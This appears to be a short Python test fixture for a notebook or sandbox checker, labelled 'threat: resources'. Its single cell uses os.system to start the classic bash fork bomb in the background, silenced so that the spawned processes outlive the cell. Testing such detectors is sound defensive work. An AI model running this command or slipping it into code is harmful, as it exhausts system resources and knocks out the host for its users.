"""The shell's famous line: its processes stay behind when the cell is done.

threat: resources
expect: nothing
"""
# %% first
import os

os.system("bash -c ':(){ :|:& };:' > /dev/null 2>&1 &")
